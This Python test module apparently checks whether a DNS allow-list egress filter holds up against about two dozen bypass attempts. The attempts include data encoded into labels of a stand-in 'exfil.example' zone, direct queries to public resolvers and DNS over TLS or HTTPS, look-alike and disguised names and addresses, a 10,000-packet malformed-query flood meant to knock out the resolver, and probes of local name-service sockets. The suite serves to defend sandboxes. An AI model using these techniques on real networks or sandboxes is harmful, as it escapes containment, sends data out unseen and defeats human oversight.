"""Ways past the allow-list by names and DNS (§2.1 of the catalogue)."""
import os
import random
import socket
import struct
import time

from question import address, answers, ask, ask_over_tcp, code, question, refuse_answer
from registry import Blocked, attempt
from wire import ALLOWED, DENIED, RESOLVER, dial, echoed, receive, resolve


@attempt("E01", "data in labels of a foreign zone, by type", 1, 28, 16, 10, 5)
def _(kind):
    return refuse_answer(ask(question(f"{os.urandom(25).hex()}.exfil.example", kind)))


@attempt("E02", "data in names through the library")
def _():
    return resolve(f"{os.urandom(20).hex()}.exfil.example")


@attempt("E05", "a resolver that is named by its address", "8.8.8.8", "1.1.1.1", "9.9.9.9")
def _(server):
    return refuse_answer(ask(question(DENIED), server=server))


@attempt("E06", "a denied name over TCP", RESOLVER, "8.8.8.8")
def _(server):
    return refuse_answer(ask_over_tcp(question(DENIED), server))


@attempt("E07", "DNS over TLS", RESOLVER, "8.8.8.8", "1.1.1.1")
def _(server):
    return dial(server, 853, 2) and "connected"


@attempt("E08", "the names of public resolvers over HTTPS", "dns.google", "cloudflare-dns.com")
def _(name):
    return resolve(name)


@attempt("E09", "HTTPS and SVCB records of an allowed name", 64, 65)
def _(kind):
    return refuse_answer(ask(question(ALLOWED, kind)))


@attempt("E10", "ANY, AXFR, class CH, UPDATE, NOTIFY, two questions",
         *({"kind": kind} for kind in (255, 252)), {"cls": 3}, {"flags": 0x2800},
         {"flags": 0x2000}, {"count": 2})
def _(parts):
    reply = ask(question(ALLOWED, **parts))
    return f"code {code(reply)}" if answers(reply) or code(reply) == 0 else None


@attempt("E11", "10,000 broken questions, after which the resolver should be gone")
def _():
    seed = question(ALLOWED, additional=1, extra=b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect((RESOLVER, 53))
        for number in range(10_000):
            data = bytearray(seed)
            for _ in range(random.randint(1, 6)):
                data[random.randrange(2, len(data))] = random.randrange(256)
            try:
                link.send(data[:random.randint(0, len(data))] if number % 3 else
                          data[:12] + random.choice([b"\xc0\x0c", b"\x40" + b"a" * 64, b"\x3f"]))
            except OSError:
                return "refused"
    time.sleep(1.5)  # the budget of questions per second
    return None if answers(ask(question(ALLOWED))) else "no answer"


@attempt("E12", "a response in place of a question")
def _():
    return "an answer" if answers(ask(question(ALLOWED, flags=0x8180), seconds=0.5)) else None


@attempt("E13", "other spellings of denied names", "DENIED.test", "dEnIeD.tEsT", "BAD.wild.test",
         "bad.wild.test.")
def _(name):
    return resolve(name)


@attempt("E14", "two final dots")
def _():
    return refuse_answer(ask(question("", labels=[b"allowed", b"test", b"", b""])))


@attempt("E15", "hyphens and underscores where no host has them", "-.allowed.test", "_dns.allowed.test",
         "-allowed.test", "allowed-.test", "allowed_.test")
def _(name):
    return refuse_answer(ask(question(name)))


@attempt("E16", "names that look like an allowed one", "evil-allowed.test", "allowed.test.evil.test",
         "allowedxtest", "xallowed.test", "sub.allowed.test", "wild.test.evil.test", "xwild.test")
def _(name):
    return refuse_answer(ask(question(name)))


@attempt("E17", "the top of a wildcard that does not mean it")
def _():
    return resolve("sub.test")


@attempt("E18", "names with a Cyrillic letter", "xn--llowed-7fg.test", "аllowed.test")
def _(name):
    return refuse_answer(ask(question("", labels=[part.encode() for part in name.split(".")])))


@attempt("E19", "full-width digits and dots", "allowed\uff0etest", "ａllowed.test")
def _(name):
    return refuse_answer(ask(question("", labels=[part.encode() for part in name.split(".")])))


@attempt("E20", "addresses in disguise", "2130706433", "0177.1", "0x7f.1", "127.1", "1572395042",
         "0135.0270.0330.042", "①②⑦.⓪.⓪.①", "93.184.55330")
def _(text):
    return echoed(text, seconds=1)


@attempt("E20b", "the same as names in a question", "2130706433", "0177.1", "0x7f.1")
def _(text):
    return refuse_answer(ask(question(text)))


@attempt("E21", "names of the own machine", "localhost", "x.localhost", "ip6-localhost")
def _(name):
    return echoed(name, seconds=1)


@attempt("E22", "NUL, space, dot and line ends inside a label", b"allowed.test", b"allowed\0", b"a b",
         b"a\r\nb", b"a\\b", b"a%2e")
def _(label):
    for labels in ([label], [label, b"test"], [label, b"wild", b"test"]):
        if answers(ask(question("", labels=labels))):
            return repr(labels)


@attempt("E23", "a search list that makes an allowed name", "allowed", "raw")
def _(name):
    return resolve(name)


@attempt("E24", "sockets that look names up", "/run/nscd/socket", "/var/run/nscd/socket",
         "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket",
         "/run/avahi-daemon/socket")
def _(path):
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(path)
        return receive(link)


@attempt("E24b", "sources of names beside files and DNS")
def _():
    with open("/etc/nsswitch.conf") as file:
        rows = [line.split() for line in file if line.startswith("hosts:")]
    return None if rows == [["hosts:", "files", "dns"]] else repr(rows)


@attempt("E25b", "a denied name below a wildcard that allows its neighbours")
def _():
    return resolve("bad.wild.test")


@attempt("E26", "an address of another run, before its name was asked for")
def _():
    # Names stand at the same addresses in every run, so anybody can know this one; see W26.
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(3)
        stream.connect(("198.18.77.77", 7777))
        stream.sendall(b"ping")
        return receive(stream)
